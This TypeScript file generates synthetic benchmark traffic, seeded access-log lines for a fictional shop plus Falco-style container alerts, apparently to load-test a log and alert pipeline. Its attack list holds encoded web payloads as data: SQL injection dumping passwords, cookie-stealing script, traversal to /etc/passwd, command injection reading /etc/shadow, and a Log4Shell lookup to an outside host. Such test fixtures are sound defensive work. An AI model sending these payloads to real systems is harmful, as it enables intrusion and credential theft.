// What senders push in the HTTP benchmark: batches of access-log lines, and single alerts of Falco, the same for the same seed.
import { between, createChance } from "../chance.ts";

export const linesPerBatch = 50;
/** Of 2,000 events: 100 alerts of Falco, each a request of its own, and 1,900 lines in 38 requests. */
export const alertShare = 0.05;
const attackEvery = 100;

export const trafficSaid = `Of the events ${alertShare * 100} % are alerts of Falco, each a request of its own and each a hit; the others are access-log lines in requests of ${linesPerBatch}, one line in ${attackEvery} an attack by one of 50 addresses. Most hits repeat: 200 pairs of rule and workload alert, 250 of address and attack.`;

export interface Traffic { alert(at: number): Buffer; batch(at: number): Buffer }

const paths = ["/", "/index.html", "/products?page=2&sort=price", "/assets/app.8f3c.js", "/api/v1/cart", "/search?q=garden+chair", "/images/hero.webp", "/blog/2026/how-we-ship", "/login", "/account/orders?status=open"];
const agents = ["Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36", "Mozilla/5.0 (iPhone; CPU iPhone OS 19_0 like Mac OS X) AppleWebKit/605.1.15", "okhttp/4.12.0"];
const attacks = ["/products?id=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20", "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fshadow", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.7%2Fa%7D"];
const months = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
const two = (number: number): string => String(number).padStart(2, "0");

function clfTime(at: number): string {
  const date = new Date(at);
  return `${two(date.getUTCDate())}/${months[date.getUTCMonth()]}/${date.getUTCFullYear()}:${two(date.getUTCHours())}:${two(date.getUTCMinutes())}:${two(date.getUTCSeconds())} +0000`;
}

export function createTraffic(seed: number): Traffic {
  const chance = createChance(seed);
  const one = <T>(all: readonly T[]): T => all[between(chance, 0, all.length)] as T;
  let [lines, alerts] = [0, 0];
  const line = (time: string): string => {
    lines += 1;
    const isAttack = lines % attackEvery === 0;
    const ip = isAttack ? `198.51.100.${between(chance, 1, 50)}` : `10.${between(chance, 0, 8)}.${between(chance, 0, 250)}.${between(chance, 1, 250)}`;
    return `shop.example:443 ${ip} - - [${time}] "GET ${one(isAttack ? attacks : paths)} HTTP/1.1" ${isAttack ? 404 : 200} ${between(chance, 200, 40_000)} "-" "${one(agents)}"`;
  };
  return {
    batch: (at) => { const time = clfTime(at); return Buffer.from(Array.from({ length: linesPerBatch }, () => line(time)).join("\n")); },
    alert: (at) => {
      alerts += 1;
      const [rule, workload] = [between(chance, 0, 10), between(chance, 0, 20)];
      return Buffer.from(JSON.stringify({
        uuid: `bench-${seed}-${alerts}-${at}`, output: `${new Date(at).toISOString()}: Notice Rule ${rule} (user=root command=sh -c id)`, priority: "Notice", rule: `Rule ${rule}`, source: "syscall", tags: ["container", "mitre_execution"], time: new Date(at).toISOString(), hostname: `node-${workload % 7}`,
        output_fields: { "evt.type": "execve", "proc.name": "sh", "proc.exepath": "/bin/sh", "proc.cmdline": "sh -c id", "proc.pname": "node", "proc.pid": between(chance, 2, 30_000), "user.name": "root", "container.id": `c${workload}`, "container.image.repository": "registry.example/shop", "container.image.tag": "2.4.1", "k8s.ns.name": "prod", "k8s.pod.name": `shop-${workload}-7d9f8b6c5-x2x4z` },
      }));
    },
  };
}
